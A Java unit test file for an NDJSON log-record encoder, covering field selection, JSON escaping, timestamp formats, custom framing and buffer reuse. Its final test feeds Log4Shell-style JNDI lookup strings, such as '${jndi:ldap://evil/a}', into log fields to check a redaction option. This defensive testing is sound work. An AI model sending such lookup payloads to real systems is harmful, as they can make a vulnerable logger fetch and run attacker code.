package dev.sluice.encode;

import dev.sluice.schemas.LogEvent;
import dev.sluice.testing.TestEvents;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;

import static dev.sluice.testing.TestOutputOptions.options;
import static org.assertj.core.api.Assertions.assertThat;

class NdjsonRecordEncoderTest {

    private static final String HOST_AND_STATUS =
            "\"ClientRequestHost\":\"acme.example.com\",\"EdgeResponseStatus\":200";

    private static final String SELECTED =
            "'field_names':['timestamp','ClientRequestHost','EdgeResponseStatus']";

    /** What tricky values look like after a JSON round trip: escapes, Unicode, extremes. */
    private static final String TRICKY =
            "quote\" backslash\\ nl\n cr\r tab\t ctl\u0001 é € 😀 </x>";

    private static String encode(String optionsJson, LogEvent event) {
        return text(RecordEncoder.forOptions(options(optionsJson)).encode(event));
    }

    private static String text(byte[] record) {
        return new String(record, StandardCharsets.UTF_8);
    }

    private static LogEvent event(long status) {
        return TestEvents.event("acme", TestEvents.T0_MICROS, status);
    }

    @Test
    void writesSelectedFieldsInOrderAndAbsentOnesAsNull() {
        String json =
                "{'field_names':['EdgeResponseStatus','Missing','timestamp'],"
                        + "'timestamp_format':'unix'}";

        assertThat(encode(json, event(503)))
                .isEqualTo(
                        "{\"EdgeResponseStatus\":503,\"Missing\":null,\"timestamp\":1731579300}\n");
    }

    @Test
    void writesEveryFieldInNameOrderWhenNoneAreSelected() {
        LogEvent event = event(200);
        event.getFields().put("Score", null);
        event.getFields().put("Cached", true);
        event.getFields().put("Ratio", 0.5);

        assertThat(encode("{'timestamp_format':'rfc3339'}", event))
                .isEqualTo(
                        "{\"timestamp\":\"2024-11-14T10:15:00Z\",\"Cached\":true,"
                                + "\"ClientIP\":\"192.0.2.7\","
                                + HOST_AND_STATUS
                                + ","
                                + "\"Ratio\":0.5,\"Score\":null}\n");
    }

    @Test
    void escapesStringsAsJson() {
        LogEvent event = event(200);
        event.getFields().put("ClientRequestURI", "/a\"b\n");

        assertThat(encode("{'field_names':['ClientRequestURI']}", event))
                .isEqualTo("{\"ClientRequestURI\":\"/a\\\"b\\n\"}\n");
    }

    @Test
    void writesTheTimestampInEachFormat() {
        assertThat(encode("{'field_names':['timestamp']}", event(200)))
                .isEqualTo("{\"timestamp\":1731579300000000000}\n");
        assertThat(encode("{'field_names':['timestamp'],'timestamp_format':'unix'}", event(200)))
                .isEqualTo("{\"timestamp\":1731579300}\n");
        assertThat(encode("{'field_names':['timestamp'],'timestamp_format':'rfc3339'}", event(200)))
                .isEqualTo("{\"timestamp\":\"2024-11-14T10:15:00Z\"}\n");
    }

    @Test
    void usesACustomRecordPrefix() {
        assertThat(encode("{" + SELECTED + ",'record_prefix':'<{'}", event(200)))
                .isEqualTo("<{\"timestamp\":1731579300000000000," + HOST_AND_STATUS + "}\n");
    }

    @Test
    void usesACustomRecordSuffix() {
        assertThat(encode("{" + SELECTED + ",'record_suffix':'}\\r\\n'}", event(200)))
                .isEqualTo("{\"timestamp\":1731579300000000000," + HOST_AND_STATUS + "}\r\n");
    }

    @Test
    void usesACustomFieldDelimiter() {
        assertThat(encode("{" + SELECTED + ",'field_delimiter':', '}", event(200)))
                .isEqualTo(
                        "{\"timestamp\":1731579300000000000, "
                                + "\"ClientRequestHost\":\"acme.example.com\", "
                                + "\"EdgeResponseStatus\":200}\n");
    }

    @Test
    void takesAnExplicitEmptyStringAsAValue() {
        String json =
                "{" + SELECTED + ",'record_prefix':'','record_suffix':'','field_delimiter':''}";

        assertThat(encode(json, event(200)))
                .isEqualTo(
                        "\"timestamp\":1731579300000000000"
                                + "\"ClientRequestHost\":\"acme.example.com\""
                                + "\"EdgeResponseStatus\":200");
    }

    @Test
    void writesMultiByteFramingAsUtf8() {
        String json =
                "{'field_names':['EdgeResponseStatus'],"
                        + "'record_prefix':'«{','record_suffix':'}»\\n'}";

        assertThat(RecordEncoder.forOptions(options(json)).encode(event(200)))
                .isEqualTo("«{\"EdgeResponseStatus\":200}»\n".getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void readsBackWithJacksonValueForValue() throws Exception {
        LogEvent event = event(200);
        event.getFields().put("Tricky", TRICKY);
        event.getFields().put("Min", Long.MIN_VALUE);
        event.getFields().put("Max", Long.MAX_VALUE);
        event.getFields().put("Ratio", -1.25e-7);
        event.getFields().put("Cached", false);
        event.getFields().put("Nothing", null);
        RecordEncoder encoder = RecordEncoder.forOptions(options("{}"));

        JsonNode line = new ObjectMapper().readTree(encoder.encode(event));

        assertThat(line.get("Tricky").textValue()).isEqualTo(TRICKY);
        assertThat(line.get("Min").longValue()).isEqualTo(Long.MIN_VALUE);
        assertThat(line.get("Max").longValue()).isEqualTo(Long.MAX_VALUE);
        assertThat(line.get("Ratio").doubleValue()).isEqualTo(-1.25e-7);
        assertThat(line.get("Cached").isBoolean()).isTrue();
        assertThat(line.get("Nothing").isNull()).isTrue();
        assertThat(line.get("timestamp").longValue()).isEqualTo(1_731_579_300_000_000_000L);
        assertThat(line.get("EdgeResponseStatus").isIntegralNumber()).isTrue();
    }

    @Test
    void reusesItsBuffersWithoutLeakingOneRecordIntoTheNext() {
        RecordEncoder encoder =
                RecordEncoder.forOptions(options("{'field_names':['ClientRequestURI']}"));
        LogEvent longer = event(200);
        longer.getFields().put("ClientRequestURI", "/" + "x".repeat(2000));
        LogEvent shorter = event(200);
        shorter.getFields().put("ClientRequestURI", "/y");

        byte[] first = encoder.encode(longer);
        byte[] second = encoder.encode(shorter);

        assertThat(text(second)).isEqualTo("{\"ClientRequestURI\":\"/y\"}\n");
        assertThat(first).hasSize(2000 + "{\"ClientRequestURI\":\"/\"}\n".length());
    }

    @Test
    void writesTheEnvelopeTimeOnceEvenIfTheEventHasATimestampField() {
        LogEvent event = event(200);
        event.getFields().put("timestamp", "spoofed");

        assertThat(encode("{'timestamp_format':'unix','field_names':[]}", event))
                .startsWith("{\"timestamp\":1731579300,\"ClientIP\"")
                .doesNotContain("spoofed");
    }

    @Test
    void redactsLookupsInNamesAndStringValuesWhenAskedTo() {
        LogEvent event = event(200);
        event.getFields().put("UserAgent", "${jndi:ldap://evil/a} and $${x} and ${${y}}");
        event.getFields().put("${evil}", 1L);

        String redacted = encode("{'CVE-2021-44228':true,'timestamp_format':'unix'}", event);
        String verbatim = encode("{'timestamp_format':'unix'}", event);

        assertThat(redacted)
                .contains("\"x{evil}\":1")
                .contains("\"UserAgent\":\"x{jndi:ldap://evil/a} and $x{x} and x{x{y}}\"")
                .doesNotContain("${");
        assertThat(verbatim).contains("\"${evil}\":1").contains("${jndi:ldap://evil/a}");
    }
}
